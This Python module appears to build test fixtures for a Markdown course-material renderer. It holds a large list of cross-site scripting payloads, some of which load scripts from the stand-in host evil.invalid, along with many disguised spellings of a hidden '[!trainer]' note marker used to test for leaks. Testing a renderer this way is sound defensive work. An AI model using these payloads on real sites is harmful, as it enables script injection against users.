"""Texts that a page must not run, and ways to write a trainer's call-out: each with the places of a workspace where an author, or whoever
an author copied from, can put it."""

import itertools
import unicodedata

# Each calls alert with the payload's number, N, or asks a server for it.
SERVER = "http://evil.invalid/"
ELEMENTS = [
    "<script>alert(N)</script>", "<SCRIPT>alert(N)</SCRIPT>", "<script >alert(N)</script >", "<script/x>alert(N)</script>",
    "<scr<script>ipt>alert(N)</script>", "<script src=http://evil.invalid/N.js></script>", "<script src=//evil.invalid/N.js></script>",
    "<script src=data:text/javascript,alert(N)></script>", "<script type=module>alert(N)</script>", "</title><script>alert(N)</script>",
    "</textarea><script>alert(N)</script>", "--><script>alert(N)</script>", "]]><script>alert(N)</script>", "</script><script>alert(N)</script>",
    "</style><script>alert(N)</script>", "<img src=data:x onerror=alert(N)>", "<img src=data:x onerror='alert(N)'>", '<img src="data:x" onerror="alert(N)">',
    "<img/src=data:x/onerror=alert(N)>", "<img src=x:x onerror=alert(N)//", "<image src=data:x onerror=alert(N)>", "<img srcset=x onerror=alert(N)>",
    "<img src=http://evil.invalid/N.png>", "<svg onload=alert(N)>", "<svg/onload=alert(N)>", "<svg><script>alert(N)</script></svg>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s>", "<svg><set onbegin=alert(N) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(N)><text y=20>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#N></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(N)</script>'></iframe></foreignObject></svg>",
    "<math><a xlink:href=javascript:alert(N)>x</a></math>", "<math><mtext></p><img src=data:x onerror=alert(N)></mtext></math>",
    "<iframe src=javascript:alert(N)></iframe>", "<iframe srcdoc='<script>alert(N)</script>'></iframe>", "<iframe src=http://evil.invalid/N></iframe>",
    "<object data=javascript:alert(N)></object>", "<object data=data:text/html,<script>alert(N)</script>></object>", "<embed src=javascript:alert(N)>",
    "<embed src=http://evil.invalid/N.swf>", "<a href=javascript:alert(N)>x</a>", "<a href=JaVaScRiPt:alert(N)>x</a>", "<a href='java&#115;cript:alert(N)'>x</a>",
    "<a href='java\tscript:alert(N)'>x</a>", "<a href=' javascript:alert(N)'>x</a>", "<a href='&#1;javascript:alert(N)'>x</a>",
    "<a href='javascript&colon;alert(N)'>x</a>", "<a href=data:text/html,<script>alert(N)</script>>x</a>", "<a href=x onclick=alert(N)>x</a>",
    "<form action=javascript:alert(N)><input type=submit></form>", "<form><button formaction=javascript:alert(N)>x</button></form>",
    "<input autofocus onfocus=alert(N)>", "<input type=image src=data:x onerror=alert(N)>", "<select autofocus onfocus=alert(N)><option>x</select>",
    "<textarea autofocus onfocus=alert(N)>x</textarea>", "<details open ontoggle=alert(N)><summary>x</summary></details>",
    "<video src=data:x onerror=alert(N)></video>", "<video><source onerror=alert(N)></video>", "<audio src=data:x onerror=alert(N)></audio>",
    "<video poster=http://evil.invalid/N.png></video>", "<body onload=alert(N)>", "<body onpageshow=alert(N)>", "<html onmouseover=alert(N)>",
    "<div onmouseover=alert(N)>x</div>", "<p style=x onclick=alert(N)>x</p>", "<marquee onstart=alert(N)>x</marquee>", "<x onclick=alert(N)>x</x>",
    "<div style='animation:x 1s' onanimationstart=alert(N)>x</div>", "<style>*{background:url(http://evil.invalid/N)}</style>",
    "<style>@import 'http://evil.invalid/N.css';</style>", "<link rel=stylesheet href=http://evil.invalid/N.css>",
    "<div style=background:url(http://evil.invalid/N)>x</div>", "<table background=http://evil.invalid/N.png><tr><td>x</table>",
    "<base href=http://evil.invalid/N/>", "<meta http-equiv=Content-Security-Policy content=script-src-*>", "<template><script>alert(N)</script></template>",
    "<noscript><p title='</noscript><img src=data:x onerror=alert(N)>'></noscript>", "<xmp><p title='</xmp><img src=data:x onerror=alert(N)>'>",
    "<!--><img src=data:x onerror=alert(N)>-->", "<![CDATA[><img src=data:x onerror=alert(N)>]]>", "<?x ><img src=data:x onerror=alert(N)>?>",
    "<img src='a>b' onerror=alert(N)>", "<img alt='`' src=data:x onerror=alert(N)//`>", "<a title='\"><img src=data:x onerror=alert(N)>'>x</a>",
    "<img src=data:x onerror\u0301=alert(N)>", "<\u0301img src=data:x onerror=alert(N)>", "<img\u00a0src=data:x onerror=alert(N)>", "＜script＞alert(N)＜/script＞",
    "<ſcript>alert(N)</ſcript>", "<ıframe srcdoc=x>", "<img src=data:x onerror=&#97;lert(N)>", "<img src=data:x onerror=alert`N`>",
    "<svg><style><img src=data:x onerror=alert(N)></style></svg>", "<svg></p><style><a id='</style><img src=data:x onerror=alert(N)>'>",
    "<math><annotation-xml encoding=text/html><img src=data:x onerror=alert(N)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=data:x onerror=alert(N)>", "<dialog open onfocus=alert(N) tabindex=0 autofocus>x</dialog>",
    "<div popover id=p-N onbeforetoggle=alert(N)>x</div>", "<p style=content-visibility:auto oncontentvisibilityautostatechange=alert(N)>x</p>",
    "<link rel=preload as=image href=http://evil.invalid/N.png>", "<link rel=prefetch href=http://evil.invalid/N>", "<picture><source srcset=http://evil.invalid/N.png><img></picture>",
    "<video><track default src=http://evil.invalid/N.vtt></video>", "<map><area href=javascript:alert(N)></map>", "<frameset onload=alert(N)>",
    "<img src=data:x loading=lazy onerror=alert(N) decoding=async>", "<a href=x ping=http://evil.invalid/N>x</a>", "<script>import('http://evil.invalid/N.js')</script>",
]
# Out of an attribute, out of a template, out of a script.
PIECES = [
    '"><img src=data:x onerror=alert(N)>', "'><img src=data:x onerror=alert(N)>", '" onmouseover=alert(N) x="', "' onmouseover=alert(N) x='",
    '" autofocus onfocus=alert(N) x="', "\"\u0301><img src=data:x onerror=alert(N)>", "'\u0301 onclick=alert(N) x='", "`onmouseover=alert(N)`",
    "&quot;&gt;&lt;img src=data:x onerror=alert(N)&gt;", "&#34;&#62;&#60;img src=data:x onerror=alert(N)&#62;", "&amp;lt;script&amp;gt;alert(N)&amp;lt;/script&amp;gt;",
    "{{{body}}}<script>alert(N)</script>", "{{site.title}}{{#x}}<script>alert(N)</script>{{/x}}", "{{=<% %>=}}<script>alert(N)</script>",
    "\\<script>alert(N)</script>", "\\\"><img src=data:x onerror=alert(N)>", "${alert(N)}", "javascript:alert(N)", "\u202e<script>alert(N)</script>",
    "\u2028<script>alert(N)</script>", "\u0085<script>alert(N)</script>", "\ufeff<script>alert(N)</script>", "\ue000<script>alert(N)</script>",
]
# Destinations of links and pictures.
ADDRESSES = [
    "javascript:alert(N)", "JAVASCRIPT:alert(N)", "java&#115;cript:alert(N)", "javascript&colon;alert(N)", "&#1;javascript:alert(N)",
    "java&#9;script:alert(N)", "java&#10;script:alert(N)", "&#32;javascript:alert(N)", "\\javascript:alert(N)", "javascript&#x3a;alert(N)",
    "vbscript:alert(N)", "data:text/html,<script>alert(N)</script>", "data:image/svg+xml,<svg onload=alert(N)>", "view-source:javascript:alert(N)",
    "x\" onmouseover=\"alert(N)", "x' onmouseover='alert(N)", "x\"><img src=data:x onerror=alert(N)>", "http://evil.invalid/N.png", "//evil.invalid/N.png",
    "blob:alert(N)", "feed:javascript:alert(N)", "javascript://%0aalert(N)", "a:javascript:alert(N)", "%6Aavascript:alert(N)",
]
PAYLOADS = ELEMENTS + PIECES + ADDRESSES


def numbered():
    return [(number, payload.replace("N", str(number))) for number, payload in enumerate(PAYLOADS, 1)]


# Blocks: a place for a payload P in the text of a page.
BLOCKS = {
    "paragraph": "P", "sentence": "文字 P 文字", "heading": "## P", "item": "- P", "number": "1. P", "quote": "> P", "strong": "**P**",
    "emphasis": "*P*", "cell": "| 表 | P |\n|---|---|\n| P | 格 |", "call-out title": "> [!note] P\n> 文字", "call-out": "> [!exercise] 题\n> P",
    "folded": "> [!solution]- P\n> P", "code": "`` P ``", "fence": "```\nP\n```", "fence's word": "~~~ P\n文字\n~~~", "link's text": "[P](index.md)",
    "link's title": "[文字](index.md \"P\")", "link's title '": "[文字](index.md 'P')", "picture's text": "![P](images/a.png)",
    "picture's title": "![文字](images/a.png 'P')", "destination": "[文字](<P>)", "picture": "![文字](<P>)", "definition": "[文字][d-X]\n\n[d-X]: <P> 'P'",
    "footnote": "文字[^X]\n\n[^X]: P", "automatic": "<P>", "struck": "~~P~~", "heading's block": "## 标题 {#x-X P}", "self-check": "[P](../../quizzes/q.md)",
    "trainer's note": "> [!trainer] P\n> P", "worksheet": "## P {#w-X .sheet}\n\nP", "role card": "## P {#c-X .card}\n\nP",
    "steps": "## 步 {#n-X .steps minutes=1}\n\n- P",
}


def blocks(name):
    """One block for each payload."""
    form = BLOCKS[name]
    return [form.replace("X", str(number)).replace("P", payload) for number, payload in numbered()]


def line(start, count):
    """Some payloads as one line of a front matter, which takes no comments."""
    return " ".join(payload.replace("\t", " ") for _, payload in numbered()[start:start + count] if "<!" not in payload)


SENTENCE = "机密讲师话语甲乙丙丁戊己庚辛壬癸子丑寅卯"
WORDS = ["trainer", "Trainer", "TRAINER", "ｔｒａｉｎｅｒ"]
MARKERS = [f"[!{word}]" for word in WORDS] + [
    "[! trainer]", "[!trainer ]", "[ !trainer]", "[!trainer]-", "[!trainer]+", "［！trainer］", "[！trainer]", "［!trainer］", "【!trainer】", "【讲师】",
    "\\[!trainer]", "[\\!trainer]", "[!trainer\\]", "[&#33;trainer]", "&#91;!trainer&#93;", "[&excl;trainer]", "&lbrack;!trainer&rbrack;",
    "**[!trainer]**", "*[!trainer]*", "***[!trainer]***", "~~[!trainer]~~", "`[!trainer]`", "[**!trainer**]", "[!**trainer**]", "[!tra\u200biner]",
    "[!trainer\u200b]", "\u200b[!trainer]", "\ufeff[!trainer]", "[!tra\u00adiner]", "[\u2060!trainer]", "[!trаiner]", "[!trainers]", "[!trainer",
    "[!trainer]：", "[!trainer](x)", "# [!trainer]", "- [!trainer]", "<b>[!trainer]</b>", "<br>[!trainer]", "<!-- x -->[!trainer]",
    "[!讲师]", "[!instructor]", "!!! trainer", "::: trainer", "::: instructor",
]
# Where a marker M and the words S stand.
PLACES = [
    "> M 提示\n> S", "> M S", ">M\n>S", "> M 提示\nS", "> M 提示\n>\n> S", "> M 提示\n> - S", "> M 提示\n> > S", "> > M 提示\n> > S", "＞ M 提示\n＞ S",
    "﹥ M\n﹥ S", "\t> M 提示\n\t> S", "    > M 提示\n    > S", "\u00a0> M\n\u00a0> S", "\u3000> M\n\u3000> S", "\u200b> M\n\u200b> S", "M 提示\nS", "- M 提示\n  S",
    "- > M 提示\n  > S", "1. M S", "| M S | b |\n|---|---|\n| a | b |", "| a |\n|---|\n| M S |", "## M S", "文字[^X]\n\n[^X]: M S", "文字[^X]\n\n[^X]: > M S",
    "<br>\n> M 提示\n> S", "</div>\n> M 提示\n> S", "<img src=data:x>\n> M 提示\n> S", "<div>\n> M 提示\n> S\n</div>", "<details>\n<summary>x</summary>\n\n> M 提示\n> S\n\n</details>",
    "> 文字\n> M 提示\n> S", "文字\n> M 提示\n> S", "> M 提示\n> <!-- x -->\n> S", "> M 提示\n> S[^X]\n\n[^X]: S", "> M 提示\n> [k-X]: x 'S'\n\n[k-X]", "![M S](images/a.png)",
    "[M S](index.md)", "[文字](index.md 'M S')", "&gt; M 提示\n&gt; S", "\\> M 提示\n\\> S",
]
COMMENTS = ["文字 <!-- S --> 文字", "<!-- S -->", "<div><!-- S --></div>", "<p title='<!-- S -->'>x</p>", "文字\n<!--\nS\n-->\n文字", "> <!-- S -->\n> 文字", "- <!-- S -->",
            "| <!-- S --> |\n|---|\n| a |", "## 题 <!-- S -->", "[文字 <!-- S -->](index.md)", "文字[^X]\n\n[^X]: 文字 <!-- S -->", "<!-- a --> 文字 <!-- S -->",
            "<!-- S", "文字\n\n<!-- S", "<!--- S --->", "<!-- S --!>"]


def secrets():
    """Every spelling in one of its usual places, and every place with the usual spelling: (text, its own sentence)."""
    forms = [(PLACES[0], marker) for marker in MARKERS] + [(PLACES[1], marker) for marker in MARKERS]
    forms += [(place, "[!trainer]") for place in PLACES[2:]]
    forms += [(place, marker) for place, marker in itertools.product(PLACES[6:16], MARKERS[9:24:3])]
    forms += [(comment, "") for comment in COMMENTS]
    result = []
    for number, (place, marker) in enumerate(forms, 1):
        words = SENTENCE + "".join("零一二三四五六七八九"[int(digit)] for digit in f"{number:03}")
        result.append((place.replace("X", str(number)).replace("M", marker).replace("S", words), words))
    return result


def folded(text):
    """A text as a reader could still tell it: widths, blanks and invisible characters away."""
    return "".join(c for c in unicodedata.normalize("NFKC", text) if unicodedata.category(c) not in ("Cf", "Zs", "Cc"))
